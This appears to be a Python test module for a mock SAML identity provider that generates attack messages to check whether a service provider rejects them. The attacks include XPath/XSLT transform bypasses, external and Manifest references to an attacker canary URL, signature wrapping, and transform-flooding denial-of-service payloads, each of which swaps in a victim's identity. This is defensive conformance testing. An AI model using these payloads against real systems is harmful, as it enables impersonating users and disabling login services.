"""Signature references and transforms: what a signature covers, and how it is computed.

Rule: a signature covers exactly the element it sits in, through one same-document Reference
(`#ID`), with only the enveloped-signature and exclusive-c14n transforms; the SP never runs
XSLT or XPath from a message and never dereferences an external URI (docs/ARCHITECTURE.md, security baseline).
The transform scenarios are genuinely signed with the IdP key, with a transform that leaves
the NameID outside the digest, and then name the victim: an SP that runs any transform the
message asks for accepts them.
"""

from __future__ import annotations

from collections.abc import Callable
from functools import partial

import xmlsec
from lxml import etree

from mock_idp.scenarios.base import Context, Message, q, scenario, serialize, set_name_id, signature_of
from samlkit import ns

_s = partial(scenario, family="references")
_XSL = "http://www.w3.org/1999/XSL/Transform"


def _sign_with(ctx: Context, element: etree._Element, transform: Callable[[etree._Element], None]) -> None:
    """An enveloped signature over `element` by the IdP key, with `transform` adding to the Reference."""
    sig = xmlsec.template.create(element, xmlsec.Transform.EXCL_C14N, xmlsec.Transform.RSA_SHA256, ns="ds")
    element.find(q("Issuer")).addnext(sig)
    ref = xmlsec.template.add_reference(sig, xmlsec.Transform.SHA256, uri="#" + element.get("ID"))
    xmlsec.template.add_transform(ref, xmlsec.Transform.ENVELOPED)
    transform(ref)
    xmlsec.template.add_transform(ref, xmlsec.Transform.EXCL_C14N)
    xmlsec.template.add_x509_data(xmlsec.template.ensure_key_info(sig))
    sc = xmlsec.SignatureContext()
    sc.key = xmlsec.Key.from_memory(ctx.idp_key_pem, xmlsec.KeyFormat.PEM)
    sc.key.load_cert_from_memory(ctx.idp_cert_pem, xmlsec.KeyFormat.CERT_PEM)
    sc.register_id(element, "ID")
    sc.sign(sig)


def _reference(element: etree._Element) -> etree._Element:
    return signature_of(element).findall(f"{q('SignedInfo', ns.DS)}/{q('Reference', ns.DS)}")[0]


@_s(
    "xpath-transform",
    rule="Only the enveloped-signature and exclusive-c14n transforms: an XPath filter can leave content unsigned.",
    expect={"transform-forbidden", "signature-invalid"},
)
def xpath(ctx: Context) -> Message:
    """The Assertion signed through an XPath filter that excludes the NameID, which then names the victim."""
    resp, assertion = ctx.build()

    def add(ref: etree._Element) -> None:
        t = xmlsec.template.add_transform(ref, xmlsec.Transform.XPATH)
        expr = etree.SubElement(t, q("XPath", ns.DS), nsmap={"saml": ns.SAML})
        expr.text = "not(ancestor-or-self::saml:NameID)"

    _sign_with(ctx, assertion, add)
    set_name_id(assertion, ctx.victim_name_id)
    return ctx.message(resp)


@_s(
    "xslt-transform",
    rule="Never run XSLT from a message: a stylesheet can make the digest cover nothing (or run code).",
    expect={"transform-forbidden", "signature-invalid"},
)
def xslt(ctx: Context) -> Message:
    """The Assertion signed through an XSLT transform whose output is a constant, then naming the victim."""
    resp, assertion = ctx.build()

    def add(ref: etree._Element) -> None:
        t = xmlsec.template.add_transform(ref, xmlsec.Transform.XSLT)
        sheet = etree.SubElement(t, ns.q(_XSL, "stylesheet"), {"version": "1.0"}, nsmap={"xsl": _XSL})
        template = etree.SubElement(sheet, ns.q(_XSL, "template"), {"match": "/"})
        etree.SubElement(template, "constant")

    _sign_with(ctx, assertion, add)
    set_name_id(assertion, ctx.victim_name_id)
    return ctx.message(resp)


@_s(
    "external-uri-reference",
    rule="A Reference never points outside the message; the SP must not fetch it.",
    expect={"signature-wrong-reference", "signature-invalid"},
)
def external_uri(ctx: Context) -> Message:
    """The Assertion signature's Reference URI rewritten to the attacker's URL (the battery's canary)."""
    resp, assertion = ctx.signed("assertion")
    _reference(assertion).set("URI", f"{ctx.canary_url}/external-uri-reference")
    set_name_id(assertion, ctx.victim_name_id)
    return ctx.message(resp)


@_s(
    "manifest-reference",
    rule="The SP dereferences nothing a Signature's ds:Object/ds:Manifest names (libxmlsec1 fetches it unverified).",
    expect={"signature-invalid"},
)
def manifest(ctx: Context) -> Message:
    """The IdP-signed Assertion, NameID changed to the victim, its Signature given a ds:Object whose
    ds:Manifest references the attacker's URL: an SP that lets libxmlsec1 process Manifests fetches
    it (with file:///dev/zero, reads forever) before or whatever the SignatureValue says."""
    resp, assertion = ctx.signed("assertion")
    sig = signature_of(assertion)
    ref = etree.SubElement(
        etree.SubElement(etree.SubElement(sig, q("Object", ns.DS)), q("Manifest", ns.DS)),
        q("Reference", ns.DS),
        URI=f"{ctx.canary_url}/manifest-reference",
    )
    etree.SubElement(ref, q("DigestMethod", ns.DS), Algorithm="http://www.w3.org/2001/04/xmlenc#sha256")
    etree.SubElement(ref, q("DigestValue", ns.DS)).text = "AAAA"
    set_name_id(assertion, ctx.victim_name_id)
    return ctx.message(resp)


@_s(
    "empty-uri-reference",
    rule="A Reference names the element the signature sits in by ID, not the whole document (URI='').",
    expect={"signature-wrong-reference", "signature-invalid"},
)
def empty_uri(ctx: Context) -> Message:
    """Both signatures' Reference URI set to "" (the whole document), NameID changed to the victim."""
    resp, assertion = ctx.signed("both")
    for el in (resp, assertion):
        _reference(el).set("URI", "")
    set_name_id(assertion, ctx.victim_name_id)
    return ctx.message(resp)


@_s(
    "xpointer-reference",
    rule="A Reference is a plain #ID, not an XPointer expression.",
    expect={"signature-wrong-reference", "signature-invalid"},
)
def xpointer(ctx: Context) -> Message:
    """The Assertion signature's Reference URI rewritten as #xpointer(/), NameID changed to the victim."""
    resp, assertion = ctx.signed("assertion")
    _reference(assertion).set("URI", "#xpointer(/)")
    set_name_id(assertion, ctx.victim_name_id)
    return ctx.message(resp)


@_s(
    "reference-to-other-element",
    rule="An Assertion's signature must reference that Assertion, not another signed element.",
    expect={"signature-wrong-reference", "signature-invalid", "signature-missing"},
)
def other_element(ctx: Context) -> Message:
    """An unsigned evil Assertion carrying the Response's Signature (which references the Response) as its own."""
    resp, assertion = ctx.signed("response")
    sig = signature_of(resp)
    assertion.find(q("Issuer")).addnext(sig)
    set_name_id(assertion, ctx.victim_name_id)
    return ctx.message(resp)


@_s(
    "two-references",
    rule="A signature has exactly one Reference.",
    expect={"signature-invalid", "signature-wrong-reference"},
)
def two_references(ctx: Context) -> Message:
    """A second Reference (to the Issuer) added to the Assertion's SignedInfo, NameID changed to the victim."""
    resp, assertion = ctx.signed("assertion")
    ref = _reference(assertion)
    extra = etree.fromstring(etree.tostring(ref))
    extra.set("URI", "#issuer")
    ref.addnext(extra)
    set_name_id(assertion, ctx.victim_name_id)
    return ctx.message(resp)


def _forged_and_padded(ctx: Context, padding: int) -> tuple[etree._Element, etree._Element]:
    """The victim's Assertion with `padding` extra attributes, signed by the attacker's key (no trust
    at all), and read back so that every node of the signature can be found and bent."""
    resp, assertion = ctx.build(user=ctx.victim)
    statement = assertion.find(q("AttributeStatement"))
    if statement is None:
        statement = etree.SubElement(assertion, q("AttributeStatement"))
    for i in range(padding):
        attr = etree.SubElement(statement, q("Attribute"), Name=f"padding{i}")
        etree.SubElement(attr, q("AttributeValue")).text = "x" * 40
    ctx.sign(resp, assertion, "assertion", key_pem=ctx.foreign_key_pem, cert_pem=ctx.foreign_cert_pem)
    root = etree.fromstring(serialize(resp))
    return root, root.find(q("Assertion"))


@_s(
    "repeated-transforms",
    rule="A Reference lists the enveloped transform and at most one exclusive c14n: a verifier that runs "
    "every listed transform before checking the SignatureValue spends minutes on an unsigned forgery.",
    expect={"transform-forbidden", "signature-invalid"},
)
def repeated_transforms(ctx: Context) -> Message:
    """A 1.4 MB forgery signed by the attacker's key whose Reference lists exclusive c14n 1,000 times."""
    resp, assertion = _forged_and_padded(ctx, 10_000)
    transforms = _reference(assertion).find(q("Transforms", ns.DS))
    for _i in range(1_000):
        etree.SubElement(transforms, q("Transform", ns.DS), Algorithm=ns.C14N_EXC)
    return ctx.message(resp)


@_s(
    "inclusive-namespaces-flood",
    rule="An exclusive c14n InclusiveNamespaces PrefixList is short: each prefix is matched against every "
    "namespace of every element, before the SignatureValue is checked.",
    expect={"transform-forbidden", "signature-invalid"},
)
def inclusive_namespaces_flood(ctx: Context) -> Message:
    """A forgery signed by the attacker's key whose exclusive c14n names 100,000 InclusiveNamespaces prefixes."""
    resp, assertion = _forged_and_padded(ctx, 10_000)
    c14n = next(t for t in _reference(assertion).iter(q("Transform", ns.DS)) if t.get("Algorithm") == ns.C14N_EXC)
    prefixes = " ".join(f"p{i}" for i in range(100_000))
    etree.SubElement(c14n, ns.q(ns.C14N_EXC, "InclusiveNamespaces"), PrefixList=prefixes)
    return ctx.message(resp)


SCENARIOS = [
    xpath,
    xslt,
    external_uri,
    manifest,
    empty_uri,
    xpointer,
    other_element,
    two_references,
    repeated_transforms,
    inclusive_namespaces_flood,
]
